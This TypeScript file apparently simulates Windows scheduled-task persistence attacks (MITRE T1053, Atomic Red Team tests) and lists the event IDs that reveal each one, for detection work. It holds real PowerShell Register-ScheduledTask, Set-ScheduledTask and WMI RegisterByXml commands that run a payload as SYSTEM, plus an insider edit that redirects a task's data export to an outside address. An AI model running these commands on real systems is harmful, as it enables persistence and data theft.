import type { Stage } from '../fleet/stage.ts'
import { byCmdlets, byProgram, SYSTEM32, stamped, TASKSCHD } from '../fleet/ways.ts'
import type { Process } from '../host/host.ts'
import { dailyTrigger, logonTrigger } from '../host/task-triggers.ts'
import { taskXml } from '../host/task-xml.ts'
import type { Attack, Scene } from './attack.ts'
import { after, asSystem, cmd, type Draft, deskOf, exec, implant, runs, unsigned, withShell } from './steps.ts'

const updater = 'C:\\Users\\Public\\Libraries\\updater.exe'

/** Atomic Red Team T1053.005 tests 4 (register) and 9 (set). */
export const cmdlets: Attack = {
  name: 'powershell-cmdlets',
  variants: ['register', 'set'],
  technique: 'T1053.005',
  does: 'registers a task with Register-ScheduledTask, or changes the action of one with Set-ScheduledTask',
  shownBy: '4104/4103 have the script, 4698/4702 name WmiPrvSE as the caller',
  plan(scene) {
    const { target, claim, variant } = scene
    const isSet = variant === 'set'
    const path = isSet ? '\\AtomicTaskModifed' : '\\AtomicTask'
    const draft: Draft = {
      path,
      triggers: logonTrigger,
      principal: { ...asSystem, highest: true },
      action: exec(updater, '', updater),
    }
    const harmless: Draft = { ...draft, action: exec('cmd.exe', '/c calc.exe', `${SYSTEM32}cmd.exe`) }
    if (isSet) target.tasks.inherit(unsigned(harmless))
    withShell(scene, 'powershell', (shell) => {
      const action = `$Action = New-ScheduledTaskAction -Execute '${updater}'\n`
      const script = isSet
        ? `${action}Set-ScheduledTask -TaskName 'AtomicTaskModifed' -Action $Action`
        : `${action}$Trigger = New-ScheduledTaskTrigger -AtLogon\nRegister-ScheduledTask -TaskName 'AtomicTask' -Action $Action -Trigger $Trigger -User SYSTEM`
      claim(byCmdlets(target, shell, script, unsigned(draft)))
      after(target, 25 * 60_000, () =>
        runs(target, path, { kind: 'logon' }, target.host.system, (process) => implant(target, process)),
      )
    })
  },
}

/** The script's host is the caller of the service. */
function fromScriptHost(
  scene: Scene,
  image: string,
  commandLine: string,
  act: (stage: Stage, process: Process) => void,
): void {
  const { target } = scene
  target.agenda.plan(scene.start, () => {
    const desk = deskOf(target, scene)
    const process = target.host.start(desk.explorer, image, commandLine)
    target.host.wait(2500)
    act(target, process)
    after(target, 60_000, () => target.host.exit(process))
  })
}

const scriptHosts: Readonly<Record<string, readonly [image: string, commandLine: string]>> = {
  wscript: [
    `${SYSTEM32}wscript.exe`,
    '"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\Public\\Downloads\\invoice.vbs" ',
  ],
  cscript: [`${SYSTEM32}cscript.exe`, 'cscript.exe //nologo C:\\Users\\Public\\Downloads\\invoice.js'],
  // Atomic Red Team T1053.005 test 5
  winword: [
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\Public\\Downloads\\invoice.docm" /o ""',
  ],
}

export const comScript: Attack = {
  name: 'com-script',
  variants: Object.keys(scriptHosts),
  technique: 'T1053.005',
  does: 'registers a task through Schedule.Service from a script host or a macro',
  shownBy: '4698 v1 names the script host; else taskschd.dll in it (Sysmon 7) in the same session',
  plan(scene) {
    const [image = '', commandLine = ''] = scriptHosts[scene.variant] ?? []
    fromScriptHost(scene, image, commandLine, (stage, process) => {
      const task = {
        path: '\\Run-At-Logon Helper',
        triggers: logonTrigger,
        principal: { id: 'Author', userId: process.session.sid, highest: false, logonType: 'InteractiveToken' },
        action: exec(updater, '-s', updater),
      } as const
      scene.claim(byProgram(stage, process, unsigned(task)))
      after(stage, 24 * 3_600_000, () => {
        const session = stage.desks.at(-1)?.session
        if (session) runs(stage, task.path, { kind: 'logon' }, session, (run) => implant(stage, run))
      })
    })
  },
}

/** Atomic Red Team T1053.005 test 6. Win32_ScheduledJob is refused since Windows 8 and left out. */
export const wmi: Attack = {
  name: 'wmi',
  variants: ['ps-scheduledtask'],
  technique: 'T1053.005',
  does: 'registers a task from XML through the WMI class PS_ScheduledTask',
  shownBy: '4104 has the call, 4698 names WmiPrvSE',
  plan(scene) {
    const { target, claim } = scene
    const task = unsigned({
      path: '\\T1053_005_WMI',
      triggers: dailyTrigger('2026-03-09T12:05:00'),
      principal: { ...asSystem, highest: true },
      action: cmd('/c C:\\Users\\Public\\w.bat'),
    })
    withShell(scene, 'powershell', (shell) => {
      const script =
        `$xml = @'\n${taskXml(task)}\n'@\n` +
        "Invoke-CimMethod -ClassName PS_ScheduledTask -NameSpace 'Root\\Microsoft\\Windows\\TaskScheduler' -MethodName RegisterByXml -Arguments @{ Force = $true; Xml = $xml; TaskName = 'T1053_005_WMI' }"
      claim(byCmdlets(target, shell, script, task))
      after(target, 15 * 60_000, () =>
        runs(target, task.path, { kind: 'time' }, target.host.system, (process) => implant(target, process)),
      )
    })
  },
}

/** Somebody with the right to do it changes what an approved task does. */
export const insider: Attack = {
  name: 'insider-edit',
  variants: ['console'],
  technique: 'T1053.005',
  does: 'an administrator changes the arguments of an approved task in the console, so that it copies data to a place of theirs',
  shownBy: '4702 with both definitions where the one before was seen; nothing but the definition tells it apart',
  plan(scene) {
    const { target, claim } = scene
    const image = 'C:\\Program Files\\Fabrikam\\Export\\export.exe'
    const approved: Draft = {
      path: '\\Fabrikam\\Nightly export',
      triggers: dailyTrigger('2025-09-01T22:00:00'),
      principal: asSystem,
      action: exec(image, '--to \\\\files.example.test\\finance', image),
    }
    target.tasks.inherit({ ...approved, author: 'EXAMPLE\\adm-ito', date: '2025-09-01T09:00:00' })
    target.agenda.plan(scene.start, () => {
      const desk = deskOf(target, scene)
      const { host } = target
      const commandLine = '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\taskschd.msc" /s'
      const console = host.start(desk.explorer, `${SYSTEM32}mmc.exe`, commandLine)
      host.wait(30_000)
      host.loadModule(console, TASKSCHD)
      const action = exec(image, '--to \\\\198.51.100.23\\drop', image)
      const edited = stamped(target, desk.session, { ...approved, action })
      claim(target.tasks.update(edited, { session: desk.session, process: console, route: 'com' }))
      host.wait(20_000)
      host.exit(console)
      after(target, 8 * 3_600_000, () => runs(target, approved.path, { kind: 'time' }))
    })
  },
}

/** at.exe has been refused since Windows 8: only its command is seen. Atomic Red Team T1053.002 test 1. */
export const atCommand: Attack = {
  name: 'at',
  variants: ['interactive'],
  technique: 'T1053.002',
  does: 'asks at.exe for an interactive shell, which Windows refuses',
  shownBy: 'the command line of at.exe (4688, Sysmon 1) and nothing else',
  plan(scene) {
    const { target, claim } = scene
    withShell(scene, 'cmd', (shell) => {
      const { host, tasks } = target
      const tool = host.start(shell, `${SYSTEM32}at.exe`, 'at  13:20 /interactive cmd')
      claim(tasks.refuse('created', null, 'cmd', { session: tool.session, process: tool, route: 'at' }))
      host.wait(40)
      host.exit(tool, 1)
    })
  },
}
